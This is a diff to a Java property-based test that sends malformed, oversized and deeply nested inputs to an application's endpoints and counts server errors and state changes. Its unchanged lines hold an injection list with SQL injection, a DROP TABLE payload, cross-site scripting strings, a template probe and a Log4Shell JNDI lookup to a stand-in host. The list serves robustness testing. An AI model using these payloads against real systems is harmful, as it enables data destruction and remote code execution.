@@ -47,7 +47,8 @@ import static org.assertj.core.api.Assertions.assertThat;
  * organisations' application (the same Spring context as every {@code @DemoDataTest}, taken from Spring's test
  * context cache), with real ids of a body, a meeting, an item, a decision, a person, an action and a referral where
  * the defect is refused before anything runs, and unknown ids where it might not be (a body that is merely missing a
- * field). The figures are printed at the end ("Bad-input catalogue: ...").
+ * field). About 300 requests (30 tries a property), some seconds. The figures are printed at the end
+ * ("Bad-input catalogue: N endpoints, N requests, N 5xx, N state changes, statuses {...}").
  */
 class BadInputCatalogueTest {
 
@@ -59,7 +60,7 @@ class BadInputCatalogueTest {
     /** An administrator of the catalogue's own, whose password is hashed cheaply: 200 logins should cost no time. */
     static final String USER = "katalog-" + UUID.randomUUID().toString().substring(0, 8);
     static final String PASSWORD = "katalogets-kode";
-    static final int TRIES = 20;
+    static final int TRIES = 30;
 
     static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil/a}",
@@ -237,7 +238,7 @@ class BadInputCatalogueTest {
         check(endpoint, realIds, json(body), "application/json", field + " = " + chosen);
     }
 
-    @Property(tries = 8, shrinking = ShrinkingMode.OFF)
+    @Property(tries = 10, shrinking = ShrinkingMode.OFF)
     void aBodyBeyondTheLimitIsAnswered413(@ForAll("withFields") Endpoint endpoint, @ForAll boolean realIds) {
         ObjectNode body = endpoint.plausible(realIds);
         body.put("fyld", "x".repeat(1_100_000));
@@ -261,7 +262,7 @@ class BadInputCatalogueTest {
         check(endpoint, realIds && parseRefuses, body, "application/json", "malformed " + body);
     }
 
-    @Property(tries = 12, shrinking = ShrinkingMode.OFF)
+    @Property(tries = 15, shrinking = ShrinkingMode.OFF)
     void deeplyNestedJsonIsRefused(@ForAll("withBodies") Endpoint endpoint, @ForAll("depth") int depth,
                                    @ForAll("anyField") int where, @ForAll boolean realIds) {
         String nested = "[".repeat(depth) + "]".repeat(depth);
